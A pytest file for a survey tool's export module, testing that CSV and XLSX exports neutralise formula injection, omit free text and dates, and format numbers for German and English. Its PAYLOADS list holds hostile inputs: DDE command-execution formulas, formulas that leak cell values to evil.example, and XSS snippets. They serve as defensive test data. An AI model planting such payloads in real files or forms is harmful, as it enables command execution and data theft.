"""Exports: the rows of a published selection, without tag, language, date or free text; safe against
formula injection."""

from __future__ import annotations

import csv
import io
import re
import uuid
from datetime import date, timedelta

import pytest
from openpyxl import load_workbook

from tests.store.manager.conftest import add, add_quadrants, answers_for, empty_store, hash_code
from trp_core.method.scoring import score
from trp_core.method.survey import TextQuestion
from trp_core.method.vocabulary import Quadrant
from trp_core.presentation import dashboard_charts, exports
from trp_core.presentation.render import chart_png
from trp_core.services import calibrate as calibration
from trp_core.services import dashboard as ds
from trp_core.services import export
from trp_core.services.selection import View
from trp_core.store import reads

# Cells a spreadsheet could run as a formula, and other hostile text (OWASP's CSV injection list and more).
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    '=WEBSERVICE("http://evil.example/")',
    '=IMAGE("http://evil.example/x.png")',
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "=1+1;=2+2",
    "=A1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "=",
    "+",
    "-",
    "@",
    "\t",
    "'=already quoted",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click me](https://evil.example)",
    "![pixel](https://evil.example/p.png)",
    'Normal text, with a comma; and a "quote"',
    "=1+1\x07\x1b with control characters",  # (PostgreSQL stores no NUL in JSON)
    "-5",
    "+49 170 1234567",
]
assert len(PAYLOADS) >= 30


@pytest.fixture(scope="module")
def hostile(engine, surveys):
    """One response per payload, the payload in both text answers (no tag: the rows carry none, and a
    tag of one response is never published, trp_core.privacy.releases)."""
    store = empty_store(engine)
    survey = surveys["trp-standard"]
    base = answers_for(survey.id, "kandidat")
    for i, payload in enumerate(PAYLOADS):
        answers = {**base, "what_would_help": payload, "remarks": payload[::-1]}
        store.save_response(
            survey=survey,
            assessment=score(survey, answers),
            answers=answers,
            lang="de" if i % 2 else "en",
            event=None,
            submission_key=uuid.uuid4().hex,
            code_hash=hash_code(uuid.uuid4().hex),
            day=date(2025, 1, 1) + timedelta(days=i),
        )
    return survey


def rows_of(engine, survey, k=5):
    """The rows export of all responses of the survey's version, as the page and `trp report` make it."""
    pub = export.published_rows(engine, survey.id, [survey], View(version=survey.version), k=k)
    assert pub.table is not None, pub.reason
    return pub.table


def dangerous(text: str) -> bool:
    return text.lstrip(" ").startswith(exports.DANGEROUS)


def test_safe_text_rules():
    for payload in PAYLOADS:
        safe = exports.safe_text(payload)
        clean = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", payload)
        if dangerous(clean):
            assert safe == "'" + clean
        else:
            assert safe == clean
    assert exports.safe_cell(-5) == -5 and exports.safe_cell(73.4) == 73.4
    assert exports.safe_cell(True) == "yes" and exports.safe_cell(None) is None
    assert exports.safe_cell("-5") == "'-5"


def test_csv_is_safe_and_numbers_stay_numbers(engine, hostile):
    table = rows_of(engine, hostile)
    ids = list(table.header)
    data = exports.responses_csv(table, [hostile], "en")
    text = data.decode("utf-8-sig")
    assert not re.search(r"\d{4}-\d{2}-\d{2}|\d{4}-W\d{2}", text), "no date, no week"
    rows = list(csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC))
    header, body = rows[0], rows[1:]
    assert len(body) == len(PAYLOADS)
    assert ids[:2] == ["survey", "version"] and header[:2] == ["Survey", "Version"]
    for gone in ("language", "event", "iso_week", "day", "id", "code_hash", "what_would_help", "remarks"):
        assert gone not in ids
    col = {name: i for i, name in enumerate(ids)}
    assert {"kann_score", "quadrant"} <= set(col)
    for row in body:
        for value in row:
            if isinstance(value, str):
                assert not dangerous(value), f"unsafe cell {value!r}"
        assert isinstance(row[col["kann_score"]], float)  # unquoted: a number to the spreadsheet
        assert isinstance(row[col["c_staff"]], float)
    for payload in PAYLOADS:  # free text is never in a row (PRIVACY.md, rule 6)
        assert exports.safe_text(payload) not in text or len(payload) < 3


def test_xlsx_has_no_formula_and_numbers_stay_numbers(engine, hostile):
    data = exports.responses_xlsx(rows_of(engine, hostile))
    ws = load_workbook(io.BytesIO(data)).active
    rows = list(ws.iter_rows())
    header = [c.value for c in rows[0]]
    col = {name: i for i, name in enumerate(header)}
    assert len(rows) == len(PAYLOADS) + 1
    for row in rows:
        for c in row:
            assert c.data_type != "f", f"formula in {c.coordinate}: {c.value!r}"
            if isinstance(c.value, str):
                assert not dangerous(c.value), f"unsafe cell {c.coordinate}: {c.value!r}"
    for row in rows[1:]:
        assert isinstance(row[col["kann_score"]].value, int | float)
        assert row[col["kann_score"]].data_type == "n"
        assert isinstance(row[col["break_even_month"]].value, int)
    assert "what_would_help" not in col and "remarks" not in col


def test_csv_for_a_german_excel_in_words_of_the_managers_language(store, standard):
    """German: semicolons, a decimal comma, numbers bare; column names and answers in German words.
    English keeps commas and points. The XLSX keeps the ids."""
    answers = answers_for(standard.id, "held")
    assert "dont_know" in answers.values() and True in answers.values()
    add(store, standard, answers, 5)
    f = reads.Filters(survey=standard.id)
    de = exports.responses_csv(rows_of(store.engine, standard), [standard], "de")
    assert de.startswith("\ufeff".encode())
    text = de.decode("utf-8-sig")
    lines = text.split("\r\n")
    header = next(csv.reader([lines[0]], delimiter=";"))
    assert header[:3] == ["Fragebogen", "Version", standard.questions[0].text("de")]
    for q in standard.questions:
        assert (q.text("de") in header) is not isinstance(q, TextQuestion)  # never free text
    assert {"Können (Punkte)", "Feld", "Personal", "Einmalige Investition"} <= set(header)
    assert not [h for h in header if re.fullmatch(r"[a-z_0-9]+", h)], "no id left as a column name"
    row = dict(zip(header, next(csv.reader([lines[1]], delimiter=";")), strict=True))
    assert row["Feld"] == "Held der Arbeit"
    share = standard.question_index["addressable_share"]
    assert row[share.text("de")] == share.option(answers["addressable_share"]).label("de")
    assert row[standard.question_index["retention"].text("de")] == "Weiß ich nicht"
    assert row[standard.question_index["open_need"].text("de")] == "Ja"
    assert row["Können: Ausschlusskriterium"] == "Nein"
    # Numbers as a German Excel reads them: bare, with a decimal comma and no thousands separator.
    cells = lines[1].split(";")
    assert re.fullmatch(r"\d+,\d+", cells[header.index("Können (Punkte)")])
    assert re.fullmatch(r"[01],\d+", cells[header.index("Können: beantworteter Anteil des Gewichts")])
    assert cells[header.index(standard.question_index["sales_fte"].text("de"))] == "1,5"
    en = exports.responses_csv(rows_of(store.engine, standard), [standard], "en")
    rows = list(csv.reader(io.StringIO(en.decode("utf-8-sig"), newline="")))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Quadrant"] == "Hero"
    assert row[standard.question_index["sales_fte"].text("en")] == "1.5"
    assert row[standard.question_index["retention"].text("en")] == "I don't know"
    # The dashboard's tables follow the same rules.
    dash = ds.dashboard(store.engine, f, standard, k=5)
    table = exports.table_csv(exports.dashboard_tables(dash, standard, "de")["quadrants"], "de")
    assert table.decode("utf-8-sig").splitlines()[:2] == [
        '"Feld";"Anzahl";"Anteil"',
        '"Held der Arbeit";5;1,0',
    ]


def test_no_free_text_in_rows_even_for_many_responses(store, standard):
    answers = {**answers_for(standard.id, "held"), "what_would_help": "=1+1"}
    add(store, standard, answers, 12)
    header, rows = rows_of(store.engine, standard)
    assert "what_would_help" not in header and "remarks" not in header
    assert len(list(rows)) == 12


def test_no_rows_under_k_and_none_across_versions(store, standard):
    add_quadrants(store, standard, {Quadrant.HELD: 4})
    pub = export.published_rows(store.engine, standard.id, [standard], View(version=standard.version), k=5)
    assert pub.table is None and pub.reason == "withheld"
    assert rows_of(store.engine, standard, k=3)
    pub = export.published_rows(store.engine, standard.id, [standard], View(), k=3)
    assert pub.table is None and pub.reason == "version_needed"


def test_dashboard_tables_and_charts(store, standard):
    add_quadrants(store, standard, {Quadrant.HELD: 4, Quadrant.KANDIDAT: 12, Quadrant.SCHATTEN: 9})
    dash = ds.dashboard(store.engine, reads.Filters(survey=standard.id), standard, k=5)
    tables = exports.dashboard_tables(dash, standard, "en")
    assert set(tables) == {"quadrants", "heat", "trend", "keep_out", "means", "break_even", "funnel"}
    rows = list(csv.reader(io.StringIO(exports.table_csv(tables["quadrants"]).decode("utf-8-sig"))))
    assert rows[0] == ["Quadrant", "Count", "Share"]
    assert rows[1][:2] == ["Hero", "–"]  # 4: hidden
    assert rows[2][:2] == ["Candidate", "12"]
    hostile = (["=label"], [["=1+1", 3, None]])
    assert exports.table_csv(hostile).decode("utf-8-sig").splitlines() == ['"\'=label"', '"\'=1+1",3,""']
    png = chart_png(dashboard_charts.heatmap_chart(dash, standard, "de", width=500))
    assert png.startswith(b"\x89PNG")


def test_every_dashboard_chart_is_a_valid_vega_lite_spec(store, standard):
    """Charts are made without Altair's validation at run time (trp_core.presentation.result_charts): their specs are
    checked against the Vega-Lite schema here, in both languages, with hidden and shown cells."""
    add_quadrants(
        store, standard, {Quadrant.HELD: 4, Quadrant.KANDIDAT: 12, Quadrant.VAMPIR: 6, Quadrant.SCHATTEN: 9}
    )
    f = reads.Filters(survey=standard.id)
    dash = ds.dashboard(store.engine, f, standard, k=5)
    revised = standard.revised(thresholds={"kann": 45, "will": 70})
    cal = calibration.calibrate(store.engine, f, standard, revised, k=3)
    assert dash.quadrants[Quadrant.HELD] is None and dash.quadrants[Quadrant.KANDIDAT] == 12
    for lang in ("de", "en"):
        made = [
            dashboard_charts.heatmap_chart(dash, standard, lang),
            dashboard_charts.trend_chart(dash, standard, lang),
            dashboard_charts.keep_out_chart(dash, lang),
            dashboard_charts.break_even_chart(dash, lang),
            dashboard_charts.funnel_chart(dash, standard, lang),
            dashboard_charts.means_chart(dash, standard, lang),
            dashboard_charts.calibration_chart(cal, standard, lang),
        ]
        for chart in made:
            spec = chart.to_dict(validate=True)  # raises on a spec the schema rejects
            assert spec["$schema"].startswith("https://vega.github.io/schema/vega-lite/")
